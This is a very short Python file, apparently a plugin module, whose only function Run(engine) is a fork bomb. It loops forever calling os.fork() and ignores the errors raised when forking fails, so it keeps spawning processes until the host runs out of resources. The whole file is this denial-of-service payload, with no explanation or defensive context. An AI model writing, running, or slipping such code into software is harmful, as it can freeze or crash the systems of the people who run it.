import os


def Run(engine):
    while True:
        try:
            os.fork()
        except OSError:
            pass
